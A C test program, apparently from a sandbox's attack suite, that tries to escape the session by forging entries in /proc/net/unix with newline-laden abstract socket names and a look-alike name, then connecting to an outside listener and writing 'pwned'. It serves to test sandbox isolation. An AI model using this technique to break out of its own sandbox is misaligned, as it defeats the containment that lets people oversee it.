/* Escape attempt: connect to an abstract unix socket of a program outside the session
 * (ATTACK_ABSTRACT, the runner's listener) by passing it off as one of the session's own
 * listeners (guardian:own-listener), which guardian tells from /proc/net/unix, where the
 * kernel prints a name's bytes as they are. The session binds names of its own that hold
 * a newline and a whole forged entry: its own socket's inode under the other's name; and
 * a name that shows the same as the other's (a '@' for a NUL, a trailing space). The
 * runner's listener must get nothing. Env: ATTACK_ABSTRACT. */
#include "attack.h"
#include <stddef.h>
#include <sys/socket.h>
#include <signal.h>
#include <sys/un.h>

static socklen_t name_of(struct sockaddr_un* sa, const char* name, size_t n) {
  memset(sa, 0, sizeof *sa);
  sa->sun_family = AF_UNIX;
  memcpy(sa->sun_path + 1, name, n);
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
}

static int listener(const char* name, size_t n) {
  struct sockaddr_un sa;
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0 || bind(s, (struct sockaddr*)&sa, name_of(&sa, name, n)) != 0 || listen(s, 1) != 0) {
    if (s >= 0) close(s);
    return -1;
  }
  return s;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  const char* target = env_or("ATTACK_ABSTRACT", "");
  if (!*target || strlen(target) > 60) return 2;
  /* A listener of our own, whose inode the forged entries name. */
  char own[64];
  snprintf(own, sizeof own, "guardian-own-%d", (int)getpid());
  int o = listener(own, strlen(own));
  struct stat st;
  if (o < 0 || fstat(o, &st) != 0) { perror("own listener"); return 2; }
  /* Many forged entries: the kernel lists names by hash (newest first within a bucket),
   * and one that comes before the real entry is enough to a reader that stops at the
   * first match. */
  for (int i = 0; i < 300; ++i) {
    char forged[108];
    int n = snprintf(forged, sizeof forged, "f%d\n0000000000000000: 00000002 00000000 00010000 0001 01 %lu @%s",
                     i, (unsigned long)st.st_ino, target);
    if (n > 0 && (size_t)n < sizeof forged) listener(forged, (size_t)n);
  }
  /* A look-alike: the target's name with a trailing space. */
  char alike[80];
  int an = snprintf(alike, sizeof alike, "%s ", target);
  listener(alike, (size_t)an);
  signal(SIGPIPE, SIG_IGN); /* the listener closes what it accepts */
  int worked = 0;
  struct sockaddr_un sa;
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr*)&sa, name_of(&sa, target, strlen(target))) == 0) {
    (void)!write(s, "pwned\n", 6);
    worked = 1;
  } else {
    fprintf(stderr, "connect @%s: %s\n", target, strerror(errno));
  }
  int d = socket(AF_UNIX, SOCK_DGRAM, 0);
  if (sendto(d, "pwned\n", 6, 0, (struct sockaddr*)&sa, name_of(&sa, target, strlen(target))) == 6) worked = 1;
  printf("net_abstract_forge: %s\n", worked ? "CONNECTED" : "refused");
  return worked;
}
